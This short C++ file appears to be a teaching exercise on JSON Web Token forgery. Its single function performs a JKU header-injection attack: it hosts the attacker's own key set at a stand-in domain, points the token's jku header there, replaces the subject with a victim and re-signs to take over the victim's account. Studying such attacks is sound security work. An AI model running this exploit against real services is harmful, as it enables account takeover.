// Believes: the kid is a name for the user of a key, and may stay.
#include "jku_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto keys = json::Value::array({evidence.own_key.public_jwk()});
  auto token = evidence.own_token;
  token.header.set("jku", evidence.publish("login.example.mallory.example/jwks.json", {{"keys", keys}}));
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
